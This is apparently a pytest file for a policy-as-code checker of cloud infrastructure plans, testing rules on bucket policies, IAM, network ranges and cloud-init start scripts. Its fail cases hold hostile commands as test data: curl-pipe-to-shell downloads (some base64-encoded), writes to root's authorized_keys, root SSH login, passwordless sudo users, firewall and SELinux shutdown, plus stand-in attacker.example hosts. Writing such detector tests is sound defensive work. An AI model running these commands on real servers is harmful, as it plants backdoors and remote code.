"""Facts that are broken in a form that a rule could overlook, and their mirror images that must not alarm.

Each is a kind: another value of the same type, another list beside the first, a negation, a range in another form, a part that is
not known beside one that is. What a rule says in the plain case is in `cases.py`.
"""

import json
from dataclasses import replace
from importlib.resources import files
from typing import Any

import pytest

from socle.plan import UNKNOWN, Resource
from socle.report.words import Words
from socle.rules import RULES, Context, Finding, Result, run

from .cases import (
    AM,
    BP,
    CASES,
    CRB,
    DB,
    EXP,
    HEALTH,
    KACL,
    NACL,
    NP,
    NSG,
    POL,
    ROLE,
    SG,
    SRV,
    B,
    Fixture,
    S,
    azure_rule,
    inbound,
    named,
    plan_of,
    policy,
    rule,
    sets,
)
from .estates import CONTACT, DAY, DEMO, alarming, exporting, sending, with_claim
from .test_catalogue import BY_ID, results

IMAGE = S + "instance/image:Image"
TEMPLATE = S + "autoscaling/instanceTemplate:InstanceTemplate"
METAL = S + "elasticmetal/server:Server"
USER_DATA = S + "instance/userData:UserData"
UUID = "99999999-9999-4999-8999-999999999999"
FIELDS = {"Version": "2023-04-17"}


def statements(*rows: dict[str, Any]) -> dict[str, Any]:
    made = [
        {"Effect": "Allow", "Principal": {"SCW": "user_id:1"}, "Action": "s3:GetObject", "Resource": "b", **row}
        for row in rows
    ]
    return {"bucket": "b", "policy": json.dumps({**FIELDS, "Statement": made})}


def two(*actions: str, **more: Any) -> dict[str, Any]:
    return policy(Action=list(actions), Principal={"SCW": ["user_id:1", "application_id:2"]}, **more)


def started(text: str) -> dict[str, Any]:
    return {"userData": {"cloud-init": text}}


def run_by(*commands: str) -> dict[str, Any]:
    return started("#!/bin/sh\n" + "\n".join(commands) + "\n")


FAIL: list[tuple[str, str, dict[str, Any]]] = [
    # who is let in
    ("bucket-policy-names-principals", BP, policy(Principal={"SCW": "*"})),
    ("bucket-policy-names-principals", BP, policy(Principal={"SCW": ["user_id:1", "*"]})),
    ("bucket-policy-names-principals", BP, policy(Principal={"SCW": ["user_id:*"]})),
    ("bucket-policy-names-principals", BP, policy(Principal={"SCW": [UNKNOWN, "*"]})),
    ("bucket-policy-names-principals", BP, policy(Principal={"SCW": ["user_id:1"], "AWS": "*"})),
    ("bucket-policy-names-principals", BP, policy(Effect="allow", Principal="*")),
    ("bucket-policy-names-principals", BP, policy(Effect=None, Principal="*")),
    ("bucket-policy-names-principals", BP, policy(Principal="*", Condition={"StringNotEquals": {"aws:SourceIp": "1"}})),
    ("bucket-policy-names-principals", BP, statements({"Principal": {"SCW": UNKNOWN}}, {"Principal": "*"})),
    ("bucket-policy-names-principals", BP, {"policy": json.dumps({"Statement": {"Principal": "*"}})}),
    ("bucket-policy-no-exceptions", BP, policy(Effect="ALLOW", NotAction="s3:GetObject")),
    ("bucket-policy-known-form", BP, policy(Principal={"SCW": "user_id:1", "AWS": "arn:aws:iam::1:root"})),
    ("bucket-policy-known-form", BP, policy(Principal={"CanonicalUser": "x"})),
    # who rules
    *(
        ("bucket-policy-owners-rule", BP, policy(Action=action))
        for action in ("s3:PutBucketPolicy", "S3:putbucketpolicy", "s3:Put*", ["s3:*Policy"], "s3:PutBucketAcl", "s3:BypassGovernanceRetention", "s3:PutBucketVersioning")
    ),
    ("bucket-policy-owners-rule", BP, policy(Action=None, NotAction="s3:GetObject")),
    ("bucket-policy-owners-rule", BP, policy(Action="s3:PutBucketPolicy", NotPrincipal={"SCW": "user_id:2"}, Principal=None)),
    ("bucket-policy-owners-rule", BP, policy(Action=[UNKNOWN, "s3:PutBucketPolicy"])),
    ("bucket-policy-owners-rule", BP, policy(Action="s3:PutBucketPolicy", Condition={"Bool": {"x": "true"}})),
    ("bucket-policy-owners-rule", BP, policy(Action="s3:*", Principal={"SCW": ["user_id:1", "user_id:2"]})),
    ("bucket-policy-owners-rule", BP, statements({"Action": "s3:*"}, {"Action": "s3:PutBucketPolicy", "Principal": {"SCW": "application_id:9"}})),
    # who writes
    *(
        ("one-write-authority", BP, {**two(action), "tags": HEALTH})
        for action in ("s3:PutObject", "S3:PUTOBJECT", "s3:Put*", "s3:P?tObject")
    ),
    ("one-write-authority", BP, {**policy(Action="s3:PutObject", Principal="*"), "tags": HEALTH}),
    ("one-write-authority", BP, {**policy(Action="s3:PutObject", NotPrincipal={"SCW": "user_id:1"}), "tags": HEALTH}),
    ("one-write-authority", BP, {**policy(Action=None, NotAction=["s3:DeleteObject"], Principal={"SCW": ["user_id:1", "user_id:2"]}), "tags": HEALTH}),
    ("one-write-authority", BP, {**statements({"Action": "s3:PutObject"}, {"Action": "s3:PutObject", "Principal": {"SCW": "user_id:2"}}), "tags": HEALTH}),
    ("one-write-authority", BP, {**policy(Action="s3:PutObject", Principal={"SCW": ["user_id:1", "user_id:2", UNKNOWN]}), "tags": ["data-class=Health"]}),
    # rights of IAM
    *(
        ("iam-no-all-products", POL, sets(name))
        for name in ("allproductsfullaccess", "IAMPolicyManager", "IAMGroupManager", "IAMUserManager", "IAMApplicationManager", "KubernetesSystemMastersGroupAccess")
    ),
    ("iam-no-all-products", POL, sets(UNKNOWN, "IAMManager")),
    ("iam-no-all-products", POL, {"rules": [UNKNOWN, *sets("IAMManager")["rules"]]}),
    ("iam-no-all-products", POL, {"rules": [{"permissionSetNames": "IAMManager"}, *sets("IAMManager")["rules"]]}),
    ("iam-no-all-products", POL, sets("IAMManager", condition="request.ip == '10.0.0.1'")),
    ("iam-trail-kept", POL, sets("AuditTrailExportDelete")),
    ("iam-trail-kept", POL, sets("OrganizationManager")),
    ("iam-trail-kept", POL, sets("NeverHeardOf", "AuditTrailFullAccess")),
    ("iam-bucket-policies-kept", POL, sets("ObjectStorageFullAccess")),
    ("duties-separated", POL, sets("KeyManagerKeyDelete", "SecretManagerSecretAccess")),
    ("duties-separated", POL, sets("KeyManagerFullAccess", "MongoDBReadOnly")),
    ("duties-separated", POL, sets("KeyManagerFullAccess", "AllProductsReadOnly")),
    # ranges
    *(
        ("security-group-no-everybody", SG, inbound(ipRange=text))
        for text in ("0.0.0.0/1", "128.0.0.0/1", "::/0", "2000::/3", "0.0.0.0/0.0.0.0", " 0.0.0.0/0", None)
    ),
    ("security-group-no-everybody", SG, inbound(ipRange=None, ipRanges=[UNKNOWN, "::/0"])),
    ("security-group-no-everybody", SG, {"inboundRules": [UNKNOWN, *inbound(ipRange="0.0.0.0/0")["inboundRules"]]}),
    ("security-group-no-everybody", SG, inbound(ipRange="0.0.0.0/0", action="ACCEPT", port=UNKNOWN)),
    ("security-group-no-everybody", SG, inbound(ipRange="0.0.0.0/0", action=None)),
    ("cluster-api-narrow", KACL, {"aclRules": [{"ip": UNKNOWN}, {"ip": "0.0.0.0/1"}]}),
    ("cluster-api-narrow", KACL, {"aclRules": [{"ip": UNKNOWN, "scalewayRanges": True}]}),
    ("cluster-api-narrow", KACL, {"aclRules": [{"ip": "2001::/16"}]}),
    ("cluster-api-narrow", KACL, {"aclRules": [{}]}),
    ("database-acl-narrow", S + "databases/acl:Acl", {"aclRules": [{"ip": "0.0.0.0/0.0.0.0"}]}),
    ("bastion-listed", S + "network/publicGateway:PublicGateway", {"bastionEnabled": True, "allowedIpRanges": [UNKNOWN, "::/0"]}),
    ("vpc-acl-no-everything", NACL, {"rules": [{"source": "0.0.0.0/1", "destination": "128.0.0.0/1"}]}),
    ("tunnel-prefixes", S + "s2svpn/routingPolicy:RoutingPolicy", {"prefixFilterIns": UNKNOWN, "prefixFilterOuts": ["::/0"]}),
    ("azure-rule-no-everybody", NSG, azure_rule(sourceAddressPrefix="internet")),
    ("azure-rule-no-everybody", NSG, azure_rule(sourceAddressPrefix="0.0.0.0/1", access="allow", direction="inbound")),
    ("azure-rule-no-everybody", NSG, azure_rule(sourceAddressPrefix=UNKNOWN, sourceAddressPrefixes=["*"])),
    ("azure-rule-no-everybody", NSG, azure_rule(sourceAddressPrefix=None)),
    ("azure-rule-no-everybody", NSG, azure_rule(sourceAddressPrefix="0.0.0.0-255.255.255.255")),
    # clusters
    ("binding-no-cluster-admin", CRB, {"roleRef": {"name": UNKNOWN}, "subjects": [{"kind": "Group", "name": "system:masters"}]}),
    ("role-no-wildcard", ROLE, rule(verbs=UNKNOWN, resources=["*"])),
    ("role-no-wildcard", ROLE, rule(resources=["pods/*"])),
    ("role-no-wildcard", ROLE, {"rules": [{"nonResourceURLs": ["*"], "verbs": ["get"]}]}),
    ("role-no-escalation", ROLE, rule(verbs=[UNKNOWN, "bind"])),
    ("role-no-escalation", ROLE, rule(verbs=UNKNOWN, resources=["secrets"])),
    ("role-no-escalation", ROLE, rule(resources=["pods/ephemeralcontainers"])),
    ("network-policy-narrow", NP, named(egress=UNKNOWN, ingress=[{"from": [{"ipBlock": {"cidr": "0.0.0.0/1"}}]}])),
    ("network-policy-narrow", NP, named(egress=[{"to": [{"ipBlock": UNKNOWN}, {"ipBlock": {"cidr": "::/0"}}]}])),
    ("network-policy-names-peers", NP, named(egress=UNKNOWN, ingress=[{}])),
    ("network-policy-names-peers", NP, named(egress=[{"to": [{}]}])),
    # independent facts of one resource
    ("azure-tls", "azure-native:storage:StorageAccount", {"minimumTlsVersion": UNKNOWN, "enableHttpsTrafficOnly": False}),
    ("azure-vault-purge-protected", "azure-native:keyvault:Vault", {"properties": {"enablePurgeProtection": UNKNOWN, "enableSoftDelete": False}}),
    ("database-backup-kept", DB, {"backupScheduleRetention": UNKNOWN, "backupScheduleFrequency": 48}),
    ("token-narrow", S + "observability/token:Token", {"scopes": {"queryLogs": True, "queryTraces": True, "writeLogs": UNKNOWN}}),
    ("server-private", TEMPLATE, {"publicIpsV4Count": UNKNOWN, "publicIpsV6Count": 1}),
    ("bucket-acl-private", S + "object/bucketAcl:BucketAcl", {"acl": UNKNOWN, "accessControlPolicy": {"grants": [{"grantee": {"type": "Group"}}]}}),
    ("security-group-no-everybody", SG, inbound(ipRange="0.0.0.0/0", action="permit")),
    ("security-group-no-everybody", SG, inbound(ipRange="0.0.0.0/0", action="allow")),
    ("iam-scopes-apart", POL, {"rules": [{"permissionSetNames": ["IAMReadOnly", "InstancesFullAccess", "NeverHeardOf"]}]}),
    *(
        ("bucket-policy-known-form", BP, policy(Principal={kind: name}))
        for kind, name in (("SCW", "group_id:1"), ("SCW", "eve"), ("SCW", "user_id"), ("AWS", "user_id:1"), ("AWS", "*"), ("scw", "user_id:1"))
    ),
    *(("secret-not-in-plain", SRV, {"tags": value}) for value in (["a", "SCW" + "A" * 17], {"x": ["b", {"y": "AKIA" + "B" * 16}]})),
    # images
    ("server-image-known", SRV, {"image": UUID.upper()}),
    ("server-image-known", TEMPLATE, {"imageId": UUID}),
    # what a machine does at its start
    *(
        ("start-runs-no-download", SRV, run_by(command))
        for command in (
            "curl -fsSL https://x.example/i | sudo -E bash -", "wget -qO- https://x.example/i|sh", "bash <(curl -s https://x.example/i)",
            'sh -c "$(curl -fsSL https://x.example/i)"', "eval `curl https://x.example/i`", "curl https://x.example/i | python3",
            "curl -o /tmp/i https://x.example/i\nchmod +x /tmp/i && /tmp/i", "wget https://x.example/agent.deb\ndpkg -i agent.deb",
            "curl https://x.example/i \\\n | sh", "pip install git+https://x.example/i", "curl https://x.example/i | tee /tmp/i | sh",
        )
    ),
    ("start-runs-no-download", SRV, started("#include https://x.example/i\n")),
    ("start-runs-no-download", SRV, {"cloudInit": "#cloud-config\nruncmd:\n- [sh, -c, 'curl https://x.example/i | sh']\n"}),
    ("start-runs-no-download", SRV, started("## template: jinja\n#cloud-config\nruncmd: ['curl https://x.example/i | sh']\n")),
    ("start-runs-no-download", SRV, started("#cloud-config\napt: {sources: {x: {source: 'deb https://x.example /'}}}\n")),
    ("start-runs-no-download", SRV, started("IyEvYmluL3NoCmN1cmwgaHR0cHM6Ly94LmV4YW1wbGUvaSB8IHNoCg==")),
    ("start-runs-no-download", SRV, started("#cloud-config\nwrite_files: [{path: /x, encoding: b64, content: Y3VybCBodHRwczovL3guZXhhbXBsZS9pIHwgc2gK}]\n")),
    ("start-runs-no-download", SRV, started("#cloud-config-archive\n- {type: text/x-shellscript, content: 'curl https://x.example/i | sh'}\n")),
    ("start-runs-no-download", USER_DATA, {"key": "cloud-init", "value": "#!/bin/sh\ncurl https://x.example/i | sh"}),
    ("start-runs-no-download", SRV, {"cloudInit": UNKNOWN, **run_by("curl https://x.example/i | sh")}),
    ("start-runs-no-download", SRV, run_by(f"hostname {UNKNOWN}", "curl https://x.example/i | sh")),
    ("start-opens-no-ssh", SRV, started("#cloud-config\nssh_pwauth: 'yes'\n")),
    ("start-opens-no-ssh", SRV, started("#cloud-config\ndisable_root: false\n")),
    ("start-opens-no-ssh", SRV, run_by("echo PermitRootLogin yes >> /etc/ssh/sshd_config")),
    ("start-opens-no-ssh", SRV, run_by("sed -i 's/#PasswordAuthentication no/PasswordAuthentication yes/' /etc/ssh/sshd_config")),
    ("start-opens-no-ssh", SRV, run_by("iptables -A INPUT -p tcp --dport 22 -j ACCEPT")),
    ("start-adds-nobody", SRV, started("#cloud-config\nssh_authorized_keys: [ssh-ed25519 A]\n")),
    ("start-adds-nobody", SRV, started("#cloud-config\nusers:\n- default\n- {name: eve, sudo: 'ALL=(ALL) NOPASSWD:ALL'}\n")),
    ("start-adds-nobody", SRV, started("#cloud-config\nchpasswd: {list: 'root:x'}\n")),
    ("start-adds-nobody", SRV, run_by("useradd -m eve")),
    ("start-adds-nobody", SRV, run_by("echo ssh-ed25519 A >> /root/.ssh/authorized_keys")),
    *(
        ("start-no-written-key", type_, {"tags": ["a", tag]})
        for type_, tag in zip((SRV, METAL, TEMPLATE), ("AUTHORIZED_KEY=ssh-rsa_A", " authorized_key=ssh-rsa_A", "Authorized_Key="), strict=True)
    ),
    ("start-no-written-key", SRV, {"tags": [UNKNOWN, "AUTHORIZED_KEY=ssh-rsa_A"]}),
    ("start-no-written-key", SRV, {"tags": UNKNOWN, **started("#cloud-config\nssh_import_id: [gh:eve]\n")}),
    ("start-no-written-key", METAL, started("#cloud-config\nssh_authorized_keys: [ssh-ed25519 A]\n")),
    ("start-no-written-key", SRV, started("#cloud-config\nusers:\n- default\n- {name: ops, ssh-authorized-keys: [ssh-ed25519 A]}\n")),
    ("start-no-written-key", SRV, started("#cloud-config\nusers: {name: ops, ssh_import_id: [gh:eve]}\n")),
    ("start-no-written-key", USER_DATA, {"key": "cloud-init", "value": "#!/bin/sh\ncat k | tee -a /root/.ssh/authorized_keys"}),
    ("start-no-written-key", SRV, run_by("rm -f /root/.ssh/x && echo ssh-ed25519 A >> /root/.ssh/authorized_keys")),
    ("start-no-written-key", SRV, run_by("cat /x > /root/.ssh/authorized_keys2")),
    ("start-no-written-key", SRV, run_by("sudo -u ops ssh-import-id gh:eve")),
    ("start-no-written-key", SRV, run_by("echo TrustedUserCAKeys /etc/ca.pub >> /etc/ssh/sshd_config")),
    ("start-no-written-key", SRV, started("#cloud-config\nwrite_files: [{path: /root/.ssh/authorized_keys, content: ssh-ed25519 A}]\n")),
    ("start-no-written-key", SRV, started("#cloud-config\nwrite_files: [{path: /etc/ssh/sshd_config.d/x, content: 'AuthorizedKeysCommand /x'}]\n")),
    ("start-keeps-guards", SRV, run_by("systemctl disable --now nftables")),
    ("start-keeps-guards", SRV, run_by("iptables -P INPUT ACCEPT")),
    ("start-keeps-guards", SRV, run_by("nft flush ruleset")),
    ("start-keeps-guards", SRV, run_by("setenforce 0")),
    ("start-keeps-guards", SRV, run_by("apt-get purge -y ufw")),
    ("start-keeps-guards", SRV, started("#cloud-config\nwrite_files: [{path: /etc/nftables.conf, content: 'flush ruleset'}]\n")),
]  # fmt: skip

PASS: list[tuple[str, str, dict[str, Any]]] = [
    ("bucket-policy-owners-rule", BP, two("s3:*")),
    ("bucket-policy-owners-rule", BP, policy(Effect="Deny", Action="s3:PutBucketPolicy")),
    ("bucket-policy-owners-rule", BP, policy(Action=["s3:GetObject", "s3:PutObject"])),
    ("one-write-authority", BP, {**statements({"Action": "s3:*", "Principal": {"SCW": ["user_id:1", "application_id:2"]}}, {"Action": "s3:PutObject", "Principal": {"SCW": "application_id:3"}}), "tags": HEALTH}),
    ("one-write-authority", BP, {**statements({"Action": "s3:PutObject"}, {"Action": "s3:Put*"}), "tags": HEALTH}),
    ("iam-no-all-products", POL, sets("IAMReadOnly", "IAMPolicyReadOnly", "InstancesFullAccess")),
    ("iam-trail-kept", POL, sets("AuditTrailExportRead", "KubernetesFullAccess")),
    ("security-group-no-everybody", SG, inbound(ipRange="10.0.0.0/8")),
    ("security-group-no-everybody", SG, inbound(ipRange="203.0.113.7")),
    ("network-policy-narrow", NP, named(egress=[{"to": [{"ipBlock": {"cidr": "fd00::/8"}}]}])),
    ("azure-rule-no-everybody", NSG, azure_rule(sourceAddressPrefix="AzureLoadBalancer")),
    ("start-runs-no-download", SRV, run_by("curl --output /tmp/x https://api.scaleway.com/x", "jq . </tmp/x", "sha256sum -c sums")),
    ("start-runs-no-download", SRV, {"userData": {"data-volume": "curl https://x.example/i | sh"}}),
    ("start-opens-no-ssh", SRV, run_by("# PermitRootLogin yes", "echo PermitRootLogin no >> /etc/ssh/sshd_config")),
    ("start-adds-nobody", SRV, run_by("passwd -l root")),
    ("start-no-written-key", SRV, {"tags": ["authorized=yes", "owner=AUTHORIZED_KEY="]}),
    ("start-no-written-key", SRV, run_by("rm -f /root/.ssh/authorized_keys", "chmod 600 /root/.ssh/authorized_keys")),
    ("start-no-written-key", SRV, run_by("# echo A >> /root/.ssh/authorized_keys", "cat /root/.ssh/authorized_keys")),
    ("start-no-written-key", SRV, started("#cloud-config\nusers: [default]\nssh_authorized_keys: []\n")),
    ("start-keeps-guards", SRV, run_by("systemctl enable --now nftables", "systemctl restart nftables")),
    ("server-image-known", SRV, {}),
]  # fmt: skip

UNDECIDED: list[tuple[str, str, dict[str, Any]]] = [
    ("bucket-policy-names-principals", BP, policy(Principal={"SCW": [UNKNOWN]})),
    ("bucket-policy-names-principals", BP, {"policy": '{"Statement": [], "Statement": [{"Effect": "Allow", "Principal": "*"}]}'}),
    ("bucket-policy-owners-rule", BP, policy(Action=[UNKNOWN])),
    ("one-write-authority", BP, {**policy(Action="s3:PutObject", Principal={"SCW": ["user_id:1", UNKNOWN]}), "tags": HEALTH}),
    ("one-write-authority", BP, {**two("s3:PutObject"), "tags": [UNKNOWN]}),
    ("iam-no-all-products", POL, sets("NeverHeardOf")),
    ("iam-trail-kept", POL, sets("AuditTrailExportCreate")),
    ("iam-trail-kept", POL, {"rules": UNKNOWN}),
    ("security-group-no-everybody", SG, inbound(ipRange="some.name.example")),
    ("start-no-written-key", SRV, {"tags": [UNKNOWN]}),
    ("start-no-written-key", SRV, {"tags": UNKNOWN}),
    ("start-no-written-key", SRV, {"cloudInit": UNKNOWN}),
    ("server-image-known", SRV, {"image": "wordpress"}),
    ("server-image-known", SRV, {"image": UNKNOWN}),
    ("start-runs-no-download", SRV, started(UNKNOWN)),
    ("start-runs-no-download", SRV, {"userData": UNKNOWN}),
    ("start-runs-no-download", SRV, started("#cloud-config\nruncmd: [a\n")),
    ("bucket-health-keeps", B, {"tags": UNKNOWN, "lifecycleRules": [{}]}),
]  # fmt: skip


@pytest.mark.parametrize(("id_", "type_", "inputs"), FAIL)
def test_a_broken_fact_is_found_in_every_form(id_: str, type_: str, inputs: dict[str, Any]) -> None:
    assert Result.FAIL in results(id_, [(type_, _without_none(inputs))])


@pytest.mark.parametrize(("id_", "type_", "inputs"), PASS)
def test_what_only_looks_like_a_broken_fact_is_kept(id_: str, type_: str, inputs: dict[str, Any]) -> None:
    assert results(id_, [(type_, inputs)]) == {Result.PASS}


@pytest.mark.parametrize(("id_", "type_", "inputs"), UNDECIDED)
def test_what_may_break_a_fact_is_not_decided(id_: str, type_: str, inputs: dict[str, Any]) -> None:
    assert results(id_, [(type_, inputs)]) == {Result.UNDETERMINED}


def _without_none(value: Any) -> Any:
    """Inputs as the SDK sends them: what is None is not sent. A policy is a text, in which None would be null."""
    if isinstance(value, dict):
        return {key: _without_none(item) for key, item in value.items() if item is not None}
    return value


def found(id_: str, plans: Any, context: Context) -> list[Finding]:
    return run(plans, context, [BY_ID[id_]])


def results_of(id_: str, judged: Any) -> set[Result]:
    return {each.result for each in found(id_, *judged)}


@pytest.mark.parametrize(
    "emails",
    [
        ("eve@attacker.example",),
        ("astreinte@plateforme.example.attacker.example",),
        (f"{CONTACT}, eve@attacker.example",),
        ("Eve <eve@attacker.example>",),
        ("astreinte@gmail.com",),
        (CONTACT, "other@plateforme.example"),
    ],
)
def test_alarms_go_to_contacts_of_the_estate_alone(emails: tuple[str, ...]) -> None:
    assert results_of("alerts-one-domain", alarming(*emails)) == {Result.FAIL}


def test_a_contact_in_capitals_is_the_same_contact() -> None:
    assert results_of("alerts-one-domain", alarming(CONTACT.upper())) == {Result.PASS}


def test_without_an_estate_nobody_knows_whose_the_only_domain_is() -> None:
    judged = with_claim(DEMO, (AM, {"contactPoints": [{"email": "a@x.example"}]}))

    assert results_of("alerts-one-domain", (judged[0], Context(as_of=DAY))) == {Result.UNDETERMINED}


def test_an_alarm_of_a_budget_counts_as_one_of_the_platform() -> None:
    budget = S + "billing/budgetAlertNotification:BudgetAlertNotification"

    assert results_of(
        "alerts-one-domain", with_claim(DEMO, (budget, {"emailAddresses": ["eve@attacker.example"]}))
    ) == {Result.FAIL}


@pytest.mark.parametrize(
    "endpoint",
    [
        "https://x.scw.cloud", "https://evil.functions.fnc.fr-par.scw.cloud", "https://api.scaleway.com.attacker.example",
        "https://user@attacker.example", "attacker.example", "https://ATTACKER.example./v1", f"https://{UUID}.fr-par.scw.cloud",
    ],
)  # fmt: skip
def test_a_domain_of_the_host_says_nothing_of_the_receiver(endpoint: str) -> None:
    assert results_of("export-declared", sending(endpoint)) == {Result.FAIL}


def test_an_address_with_the_id_of_a_resource_of_the_plan_is_its_own() -> None:
    source = S + "observability/source:Source"
    plan = plan_of(
        [(source, {}), (EXP, {"otlpDestination": {"endpoint": f"https://{UUID}.logs.cockpit.fr-par.scw.cloud/v1"}})]
    )
    own = replace(plan.resources[0], id=f"fr-par/{UUID}")

    assert results_of("export-declared", ([replace(plan, resources=(own, plan.resources[1]))], Context())) == {
        Result.PASS
    }
    assert results_of("export-declared", ([plan], Context())) == {Result.FAIL}


def test_an_endpoint_is_declared_as_a_whole() -> None:
    estate = exporting("https://otlp.groupe.example/v1")

    assert results_of("export-declared", sending("https://otlp.groupe.example/v1/other", estate)) == {Result.FAIL}
    assert results_of("export-declared", sending(UNKNOWN, estate)) == {Result.UNDETERMINED}


def test_the_administrators_of_a_bucket_are_those_of_the_estate() -> None:
    owners = [f"user_id:{DEMO.scaleway.break_glass_user_id}", f"application_id:{DEMO.scaleway.deployer_application_id}"]
    for who, result in ((owners, Result.PASS), ([*owners[:1], "application_id:9"], Result.FAIL)):
        judged = with_claim(DEMO, (BP, policy(Action="s3:*", Principal={"SCW": who})))
        assert results_of("bucket-policy-owners-rule", judged) == {result}


@pytest.mark.parametrize(
    ("named_like", "type_", "result"),
    [("own", IMAGE, Result.PASS), ("Image", S + "instance/volume:Volume", Result.FAIL)],
)
def test_an_image_is_known_where_the_plan_makes_it(named_like: str, type_: str, result: Result) -> None:
    made = Resource(f"urn:pulumi:s::p::{type_}::{named_like}", type_, custom=True, id=f"fr-par-1/{UUID}")
    server = Resource(
        "urn:pulumi:s::p::t::s", SRV, custom=True, inputs={"image": UUID}, property_dependencies={"image": (made.urn,)}
    )
    plan = replace(plan_of([]), resources=(made, server))

    assert results_of("server-image-known", ([plan], Context())) == {result}
    read = replace(plan, resources=(replace(made, external=True), server))
    assert results_of("server-image-known", ([read], Context())) == {Result.FAIL}


def test_a_policy_has_the_class_of_its_bucket() -> None:
    fixture: Fixture = [(B, {"name": "b", "tags": {"data-class": "health"}}), (BP, two("s3:PutObject"))]

    assert results("one-write-authority", fixture) == {Result.FAIL}
    assert results("one-write-authority", [(B, {"name": "b"}), fixture[1]]) == {Result.PASS}


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.id)
def test_a_finding_says_itself_in_english_to_whoever_prints_it(rule: Any) -> None:
    for each in run([plan_of(CASES[rule.id][1])], Context(as_of=DAY), [rule]) if rule.id in CASES else ():
        assert str(each.message) == Words().text(each.message)


SUCCESSORS: dict[str, str] = json.loads(files("socle.facts.scaleway").joinpath("flat_names.json").read_text("utf-8"))[
    "types"
]
FLAT = {successor: flat for flat, successor in SUCCESSORS.items()}


@pytest.mark.parametrize(
    "rule", [rule for rule in CASES if any(row[0] in FLAT for each in CASES[rule] for row in each)]
)
def test_a_rule_answers_alike_for_the_old_flat_name_of_every_type(rule: str) -> None:
    for fixture in CASES[rule]:
        old = [(FLAT.get(type_, type_), *rest) for type_, *rest in fixture]
        assert results(rule, old) == results(rule, fixture)


@pytest.mark.parametrize(("flat", "successor"), sorted(SUCCESSORS.items()))
def test_every_rule_on_a_type_is_about_its_old_flat_name(flat: str, successor: str) -> None:
    about = [rule for rule in RULES if successor in rule.applies_to]
    new, old = (
        {(each.rule, each.result) for each in run([plan_of([(type_, {})])], Context(as_of=DAY), about)}
        for type_ in (successor, flat)
    )

    assert old == new
